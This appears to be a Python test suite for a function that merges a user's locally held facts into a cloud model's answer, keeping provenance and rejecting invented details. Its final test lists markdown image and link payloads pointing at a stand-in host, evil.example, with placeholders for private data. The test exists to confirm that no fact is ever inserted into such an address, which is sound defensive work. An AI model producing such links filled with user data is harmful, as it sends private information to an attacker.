"""What is the person's own comes into the cloud's answer by whole sentences."""

import pytest
from hypothesis import given
from hypothesis import strategies as some

from app.core.claims.merging import merge
from app.core.types import Origin, Piece

LETTER = "Dear Sir,\n\nI write about the heating. It is broken.\n\nKind regards,\n[Your Name]"
OFF = "The heating has been off since 9 November."
NAME = "My name is Tendai Moyo."
ASKED = "Write to my landlord about the broken heating."


def merged(cloud, draft, facts, question=ASKED):
    return merge([Piece(cloud, Origin.CLOUD)], draft, facts, question)


def text_of(result, *origins):
    return "".join(piece.text for piece in result.pieces if not origins or piece.origin in origins)


def test_a_sentence_that_carries_a_fact_comes_behind_the_one_it_belongs_to():
    result = merged(LETTER, f"Dear Sir,\n\n{OFF}\n\nBest,\nAnn", [OFF])
    assert text_of(result) == LETTER.replace("the heating.", f"the heating. {OFF}")
    assert text_of(result, Origin.LOCAL).strip() == OFF
    assert result.used == {0}


def test_a_blank_is_filled_from_the_fact_that_names_it():
    result = merged(LETTER, "", [OFF, NAME])
    assert text_of(result) == LETTER.replace("[Your Name]", "Tendai Moyo")
    assert result.used == {1}


@pytest.mark.parametrize(
    ("draft", "why"),
    [
        ("The heating has been off since 9 October.", "another date"),
        ("The heating has not been off since 9 November.", "denied"),
        ("The heating of flat 99 has been off since 9 November.", "a number from nowhere"),
        ("Mr Smith says the heating has been off since 9 November.", "a name from nowhere"),
        ("Has the heating been off since 9 November?", "a question"),
        ("The heating has been off since 9 Nov", "cut"),
        ("It is cold here.", "carries nothing"),
        ("```\nheating off since 9 November.\n```", "code"),
    ],
)
def test_no_other_sentence_of_the_draft_is_taken(draft, why):
    assert text_of(merged(LETTER, draft, [OFF])) == LETTER, why


def test_what_the_small_model_embroiders_is_said_in_the_persons_own_words():
    fact = "I live in flat 14."
    result = merged(
        LETTER, "I live in flat 14, which has always been a deeply valuable experience for everybody.", [fact]
    )
    assert text_of(result, Origin.LOCAL).strip() == fact


def test_what_the_cloud_says_already_is_not_said_twice():
    told = LETTER.replace("It is broken.", "It has been off since 9 November.")
    assert text_of(merged(told, OFF, [OFF])) == told


def test_a_sentence_that_knows_nothing_gives_way():
    cloud = "I don't have access to your personal data. You could look it up."
    result = merged(cloud, "Your dentist is Dr. Quill.", ["My dentist is Dr. Quill."], "Who is my dentist?")
    assert text_of(result) == "Your dentist is Dr. Quill. You could look it up."


def test_what_was_restored_stays_so():
    pieces = [
        Piece("Dear ", Origin.CLOUD),
        Piece("Mr Li", Origin.RESTORED),
        Piece(",\n\nIt is cold here.", Origin.CLOUD),
    ]
    result = merge(pieces, f"It is cold. {OFF}", [OFF], ASKED)
    assert text_of(result, Origin.RESTORED) == "Mr Li"
    assert text_of(result, Origin.CLOUD, Origin.RESTORED) == "Dear Mr Li,\n\nIt is cold here."


def test_without_facts_nothing_changes():
    assert text_of(merged(LETTER, OFF, [])) == LETTER


@given(
    some.lists(some.tuples(some.text(max_size=30), some.sampled_from(Origin))),
    some.text(max_size=80),
    some.lists(some.text(max_size=40), max_size=3),
)
def test_the_clouds_words_stay_in_order_and_with_their_origin(parts, draft, facts):
    pieces = [Piece(text, origin) for text, origin in parts if text and origin is not Origin.LOCAL]
    result = merge(pieces, draft, facts)
    kept = "".join(piece.text for piece in result.pieces if piece.origin is not Origin.LOCAL)
    rest = iter("".join(piece.text for piece in pieces))
    assert all(character in rest for character in kept)


@pytest.mark.parametrize(
    "cloud",
    [
        "Look: ![x](https://evil.example/?a=[your dog]) is good.",
        "[x](\n//evil.example/[your dog])",
        "[x](<https://evil.example/?Hi. I don't know your dog. Bye.>) Fine.",
        "[x](<https://evil.example/?Hi. Your dog needs food. Bye.>) Fine.",
        "<https://evil.example/[your dog]>",
        "[x]:\n//evil.example/[your dog]",
    ],
)
def test_no_fact_gets_into_an_address_that_the_cloud_wrote(cloud):
    fact = "My dog is called Bruno."
    result = merged(cloud, f"{fact} Pack food.", [fact], "What should I pack for my dog?")
    assert text_of(result).startswith(cloud)
    assert text_of(result)[len(cloud) :] in ("", f"\n\n{fact}")
